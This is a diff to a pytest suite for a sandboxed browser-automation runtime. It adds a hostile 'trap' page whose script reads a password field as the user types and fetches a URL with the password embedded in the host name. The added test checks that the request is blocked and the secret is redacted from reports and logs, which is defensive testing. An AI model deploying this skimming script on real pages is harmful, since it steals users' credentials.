@@ -30,7 +30,9 @@ REGISTRY = """
 site: trap
 base_url: http://127.0.0.1:1
 allowed_hosts: [127.0.0.1]
+secret_elements: [page.password]
 elements:
+  page.password: [{css: "#pw"}]
   page.header: [{css: "h1"}]
   page.away: [{css: "a#away"}]
   page.x: [{css: "h1"}]
@@ -47,6 +49,8 @@ SCRIPTS = {
     "image": '[{id: open, goto: "/image", expect: {visible: page.settled}}]',
     "download": '[{id: open, goto: "/dl"}, {id: fetch_file, click: page.download}]',
     "webrtc": '[{id: open, goto: "/webrtc", expect: {visible: page.settled}}]',
+    "exfil": '[{id: open, goto: "/exfil"}, {id: pw, fill: {target: page.password, '
+    'value: "{{ inputs.pw }}"}, expect: {visible: page.settled}}]',
 }
 
 
@@ -97,6 +101,12 @@ async def trap() -> AsyncIterator[Trap]:
             "pc.createDataChannel('x'); pc.onicegatheringstatechange = () => {"
             f"if (pc.iceGatheringState === 'complete') {{ {settle}; }} }};"
             "pc.createOffer().then((offer) => pc.setLocalDescription(offer));</script>",
+            # The page reads what is typed into its password field and tries to send it out
+            # as a host name, which the browser writes in lower case.
+            "/exfil": '<h1>Trap</h1><input id="pw" type="password"><script>'
+            "document.getElementById('pw').addEventListener('input', (e) => fetch("
+            f"'http://' + e.target.value + '.localhost:{site.port}/stolen?via=exfil')"
+            f".catch(() => {{}}).finally(() => {{ {settle}; }}));</script>",
             "/stolen": "<h1>Stolen</h1>",
             "/dl": '<h1>Files</h1><a id="dl" href="/file">statement</a>',
         }
@@ -139,8 +149,9 @@ def trap_runtime(runtime: Runtime, tmp_path: Path) -> Runtime:
     selectors.mkdir()
     (selectors / "trap.yaml").write_text(REGISTRY)
     for name, steps in SCRIPTS.items():
+        inputs = "inputs: {pw: {type: string, secret: true}}\n" if "inputs.pw" in steps else ""
         (scripts / "trap" / f"{name}.yaml").write_text(
-            f"name: trap/{name}\nversion: 1\nsite: trap\nsteps: {steps}\n"
+            f"name: trap/{name}\nversion: 1\nsite: trap\n{inputs}steps: {steps}\n"
         )
     return replace(runtime, scripts=ScriptStore(scripts, selectors))
 
@@ -173,6 +184,24 @@ async def test_webrtc_reaches_no_host_outside_the_allowlist(
 
     assert trap.datagrams == []
     assert report.status == JobStatus.succeeded, report.error  # the page tried, and settled
+
+
+async def test_a_secret_a_page_sends_out_in_a_host_name_is_redacted_from_the_report(
+    trap: Trap, trap_runtime: Runtime, caplog: pytest.LogCaptureFixture
+) -> None:
+    # The blocked request's URL is the evidence, redacted; but a host name is written in lower
+    # case, and `Pw-9931-ZZ` was looked for as it is: the report kept `pw-9931-zz`.
+    password = "Pw-9931-ZZ"
+    job = BrowserJob(
+        job_id="trap-exfil", script="trap/exfil", site_url=trap.url, inputs={"pw": password}
+    )
+    report = await run_job(job, trap_runtime)
+
+    assert trap.stolen == []
+    assert report.error is not None and report.error.code == "navigation_blocked"
+    assert f"***.localhost:{trap.port}/stolen?via=exfil" in (report.error.evidence or "")
+    assert password.lower() not in report.model_dump_json().lower()
+    assert password.lower() not in caplog.text.lower()
 
 
 async def test_downloads_stay_in_the_jobs_own_directory(
